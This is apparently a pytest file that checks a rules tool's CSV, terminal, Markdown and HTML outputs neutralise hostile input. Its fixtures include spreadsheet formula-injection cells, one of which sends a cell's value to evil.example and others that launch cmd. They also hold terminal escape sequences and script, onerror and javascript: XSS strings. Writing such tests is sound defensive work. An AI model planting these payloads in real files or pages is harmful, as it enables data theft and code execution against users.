"""Outputs meant for people are safe to open (issue 18): a spreadsheet never runs a CSV cell as a
formula, a terminal never receives a control sequence from data, and `rules docs` Markdown keeps
data as text (no heading, HTML, table break or non-web link from a ruleset)."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import MINIMAL

EMERGENCY = {"bladder_bowel_control": True, "pain_quality": "burning"}
# (id in the input, the cell a spreadsheet must see): OWASP's formula starts, and numbers.
IDS = [
    ('=HYPERLINK("http://evil.example/?x="&A1,"Open")', '\'=HYPERLINK("http://evil.example/?x="&A1,"Open")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("p-001", "p-001"),
    (-3, "-3"),  # a number stays a number
    ("-3", "-3"),  # so does text that is only a number: it cannot be a formula
    ("+1.5e3", "+1.5e3"),
]


def _cases(tmp_path: Path, ids: list[Any]) -> Path:
    path = tmp_path / "cases.jsonl"
    path.write_text("".join(json.dumps({"id": i, **EMERGENCY}) + "\n" for i in ids), encoding="utf-8")
    return path


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(invoke: Any, tmp_path: Path) -> None:
    cases = _cases(tmp_path, [given for given, _ in IDS])
    out = invoke("evaluate", "leg-pain@1.0.0", str(cases), "--format", "csv").stdout
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [row["id"] for row in rows] == [cell for _, cell in IDS]
    assert {row["urgency"] for row in rows} == {"emergency"}


def test_the_spreadsheet_rule_applies_to_every_column() -> None:
    from rulewright.plugins.formats import spreadsheet_safe

    assert spreadsheet_safe("=1+1") == "'=1+1" and spreadsheet_safe("-") == "'-"
    assert spreadsheet_safe(None) is None and spreadsheet_safe(-3) == -3 and spreadsheet_safe(2.5) == 2.5
    assert spreadsheet_safe("1-2") == "1-2"  # only the first character can start a formula


@pytest.mark.parametrize("fmt", ["text", "table"])
@pytest.mark.parametrize("terminal", [False, True])
def test_terminal_formats_show_control_characters_as_escapes(
    invoke: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fmt: str, terminal: bool
) -> None:
    import rulewright.core.cli.evaluate as evaluate

    monkeypatch.setattr(evaluate, "stdout_is_terminal", lambda: terminal)
    monkeypatch.delenv("NO_COLOR", raising=False)
    hostile = "p\x1b[2J\x1b[1;1H\rrouti\u202ene\nline 9: ROUTINE\x07\x9b2J"
    out = invoke("evaluate", "leg-pain@1.0.0", str(_cases(tmp_path, [hostile])), "--format", fmt).stdout
    painted = re.sub(r"\x1b\[[0-9;]*m", "", out)  # the colours the writer adds itself, on a terminal
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]", painted), repr(out)
    shown = "p\\x1b[2J\\x1b[1;1H\\x0drouti\\u202ene\\x0aline 9: ROUTINE\\x07\\x9b2J"
    assert (shown if fmt == "text" else shown[:15]) in out  # the table cuts long ids
    assert "EMERGENCY" in out.upper()
    assert not any(line.startswith("line 9") for line in out.splitlines())


def test_markdown_report_escapes_control_characters(invoke: Any, tmp_path: Path) -> None:
    out = invoke(
        "evaluate", "leg-pain@1.0.0", str(_cases(tmp_path, ["p\x1b[2J"])), "--format", "markdown"
    ).stdout
    assert "\x1b" not in out and "p\\\\x1b\\[2J" in out


HOSTILE = (
    MINIMAL.replace(
        "title: Minimal",
        'title: "Minimal</title><script>alert(1)</script>"\n'
        'description: "# Approved by the board\\n\\n<img src=x onerror=alert(1)>"',
    )
    .replace(
        "references: [{id: ref, citation: A citation}]",
        "references:\n"
        '    - {id: ref, citation: "A [click](javascript:alert(1)) citation | broken", url: "javascript:alert(2)"}\n'
        '    - {id: web, citation: "Fine", url: "https://example.org/guide"}',
    )
    .replace("label: High", 'label: "High <i>now</i>\\n## Signed off\\n| x | y |"')
    .replace("message: A is true.", 'message: "A is true. | extra cell | <b>bold</b> [x](data:text/html,hi)"')
    .replace("label: Low", 'label: Low\n    recommendations: ["- Act.\\n1. now", "+ more", "---"]')
)


@pytest.fixture
def hostile_docs(invoke: Any, tmp_path: Path) -> tuple[str, str]:
    path = tmp_path / "hostile.yaml"
    path.write_text(HOSTILE, encoding="utf-8")
    assert invoke("validate", str(path)).exit_code == 0
    markdown = invoke("docs", str(path)).stdout
    page = invoke("docs", str(path), "--format", "html").stdout
    return markdown, page


def test_docs_markdown_keeps_ruleset_text_as_text(hostile_docs: tuple[str, str]) -> None:
    markdown, _ = hostile_docs
    lines = markdown.splitlines()
    assert not any(line.startswith(("# Approved", "## Signed off")) for line in lines), markdown
    assert "<script" not in markdown and "<img" not in markdown and "<b>" not in markdown
    assert "<i>" not in markdown  # the outcome label, in a table and in the Mermaid chart
    assert not re.search(r"(?<!\\)\]\((?!https?://)", markdown)  # the only links are web links
    assert "[https://example.org/guide](https://example.org/guide)" in markdown
    # Every table keeps its columns: no `|` or line break from data splits or ends a row.
    for table in (block.splitlines() for block in markdown.split("\n\n") if block.startswith("|")):
        assert len({len(re.split(r"(?<!\\)\|", row)) for row in table}) == 1, table
    # Data that opens a list item cannot start a nested list or a numbered one.
    assert "1. \\- Act. 1. now\n2. \\+ more\n3. \\---\n" in markdown


def test_docs_html_allows_only_web_links(hostile_docs: tuple[str, str]) -> None:
    _, page = hostile_docs
    assert "<script>" not in page and "<img" not in page and "<b>" not in page
    hrefs = re.findall(r'href="([^"]*)"', page)
    assert hrefs and all(h.startswith(("https://", "http://")) for h in hrefs), hrefs
